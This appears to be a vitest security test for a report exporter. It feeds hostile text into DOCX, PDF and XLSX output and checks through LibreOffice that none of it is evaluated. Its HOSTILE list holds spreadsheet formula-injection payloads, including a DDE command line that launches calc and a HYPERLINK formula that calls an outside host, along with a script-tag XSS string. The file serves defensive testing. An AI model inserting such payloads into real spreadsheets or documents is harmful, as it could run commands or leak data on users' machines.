import { execFile } from 'node:child_process';
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { expect, onTestFinished, test } from 'vitest';
import { createCharts } from '#documents/charts/chart.ts';
import { writeDocx } from '#documents/docx.ts';
import { createWriteApart } from '#documents/write-apart.ts';
import { writeXlsx } from '#documents/xlsx.ts';
import { newsPaper } from '../../../src/features/report/news.ts';
import { recapSheets } from '../../../src/features/report/recap-xlsx.ts';
import type { ReportModel } from '../../../src/features/report/report-model.ts';
import { reportPaper } from '../../../src/features/report/report-paper.ts';
import { HAS_WRITER, pdfPages, unzipped } from '../../documents/support/open.ts';
import { WORDS } from '../../support/roster.ts';
import { modelOf, resultsOf } from './support/model.ts';

const run = promisify(execFile);

/** Each would give 1787569 if anything of it were worked out. */
const SECRET = '1787569';
const HOSTILE = [
  '=1337*1337',
  '+1337*1337',
  '-1*-1787569+0*1',
  '@SUM(1337*1337)',
  '\t=1337*1337',
  '\r\n=1337*1337',
  '"=1337*1337',
  "'=1337*1337",
  '=HYPERLINK("http://x.invalid/?"&1337*1337,"x")',
  "=cmd|' /C calc'!A0",
  '{=1337*1337}',
  '<script>alert(1)</script> & <b>"tebal"</b> ]]> <!-- {{x}}',
  'مرحبا بالعالم שלום עולם \u202edesreveR\u202c',
  '👨‍👩‍👧‍👦🇮🇩👍🏽 e\u0301 ﷺ 𝕏',
  'a\u0000b\u0007c\u001b[31md\ufffe\uffff\ud800e\udfff',
  '_x0041__x000D_\u200b\u2028\u2029',
  '',
];
/** 60,000 characters each: with places to break, and without. No form takes them; older data may hold them. */
const LONG = ['kata '.repeat(12_000), 'x'.repeat(60_000)];

/** Hostile wherever people or organizers write something. */
function hostileModel(): ReportModel {
  const model = modelOf(HOSTILE.length, {
    results: resultsOf({ 'session:s3': { stars: [0, 0, 0, 3, 7] }, 'organisation:': { material: [0, 0, 0, 3, 7] } }),
  });
  const at = (i: number) => HOSTILE[i % HOSTILE.length] as string;
  return {
    ...model,
    card: { ...model.card, title: at(0), place: at(11), organizer: at(13) },
    identity: {
      address: at(12),
      basis_number: at(4),
      chair: at(14),
      signatory: at(0),
      signatory_position: at(1),
      signatory_nip: '-',
    },
    groups: { a: at(0), b: at(12) },
    sessions: model.sessions.map((session, i) => ({
      ...session,
      title: at(i),
      speaker: at(i + 8),
      moderator: at(i + 11),
      place: at(i + 12),
    })),
    speakers: HOSTILE.map((name) => ({ name, sessions: model.sessions.slice(2, 3) })),
    people: { ...model.people, agencies: HOSTILE.map((name) => ({ name, count: 1 })) },
    list: model.list.map((one, i) => ({
      ...one,
      name: i === 0 ? (LONG[1] as string) : at(i),
      position: at(i + 3),
      agency: at(i + 6),
    })),
    proposals: { ...model.proposals, agencies: HOSTILE.map((name) => ({ name, begun: 1, finished: 0 })) },
    results: {
      ...model.results,
      topics: model.results.topics.map((topic) => ({ ...topic, name: topic.name === null ? null : at(12) })),
    },
  };
}

test.skipIf(!HAS_WRITER)(
  'hostile texts in every export are read by LibreOffice, and nothing of them is worked out',
  async () => {
    const model = hostileModel();
    const charts = createCharts();
    const folder = await mkdtemp(join(tmpdir(), 'fuzz-'));
    onTestFinished(async () => {
      await charts.close();
      await rm(folder, { recursive: true, force: true, maxRetries: 5 });
    });
    const paper = await reportPaper(model, {
      words: WORDS,
      rehearsal: false,
      picture: Buffer.from('no picture'),
      draw: charts.draw,
    });
    const writeApart = createWriteApart();
    const said = {
      answers: async () => Array.from({ length: 10 }, () => ({ group: 'a', marks: { stars: 5, material: 4 } })),
      texts: async () => [...HOSTILE, ...LONG].map((text) => ({ group: '', text })),
    };
    const sheets = recapSheets(model, { words: WORDS, said, texts: { 'session:s3': HOSTILE.length + LONG.length } });
    const [docx, pdf, news, xlsx] = [
      await writeApart('docx', paper, 0),
      await writeApart('pdf', paper, 0),
      await writeDocx(newsPaper(model, { words: WORDS, rehearsal: false })),
      await writeXlsx({ title: model.card.title, sheets }),
    ];
    for (const file of [docx, news]) {
      const xml = unzipped(file)['word/document.xml'] ?? '';
      // Fields are page numbers, captions and contents alone, and nothing leads out of the document.
      const fields = [...xml.matchAll(/<w:instrText[^>]*>([^<]*)</g)].map(([, code = '']) => code.trim().split(' ')[0]);
      expect(fields.filter((field) => !/^(?:SEQ|TOC|PAGE|NUMPAGES|PAGEREF|HYPERLINK)$/.test(field ?? ''))).toEqual([]);
      expect(unzipped(file)['word/_rels/document.xml.rels'] ?? '').not.toContain('x.invalid');
    }
    const said2 = (await pdfPages(pdf)).join('\n');
    expect([said2.includes('=1337*1337'), said2.replaceAll('-1*-1787569', '').includes(SECRET)]).toEqual([true, false]);

    for (const [name, bytes] of [
      ['laporan.docx', docx],
      ['rekap.xlsx', xlsx],
    ] as const)
      await writeFile(join(folder, name), bytes);
    const office = (filter: string, name: string) => {
      const profile = `-env:UserInstallation=file://${folder}/profil`;
      const args = [profile, '--headless', '--convert-to', filter, '--outdir', folder, join(folder, name)];
      return run('soffice', args, { timeout: 120_000 });
    };
    // Every sheet as a file of its own, each cell as it is shown.
    await office('csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true,true,false,false,false,-1', 'rekap.xlsx');
    await office('txt:Text (encoded):UTF8', 'laporan.docx');
    const made = await readdir(folder);
    expect(made.filter((name) => name.endsWith('.csv')).length).toBe(7);
    expect(made.filter((name) => name.endsWith('.txt'))).toEqual(['laporan.txt']);
    for (const name of made.filter((one) => /\.(?:csv|txt)$/.test(one))) {
      const text = (await readFile(join(folder, name), 'utf8')).replaceAll('-1*-1787569', '');
      expect([name, text.includes(SECRET)]).toEqual([name, false]);
    }
    const comments = await readFile(join(folder, made.find((name) => name.includes('Komentar')) ?? ''), 'utf8');
    for (const text of HOSTILE.slice(0, 5)) expect(comments).toContain(text);
  },
  240_000,
);
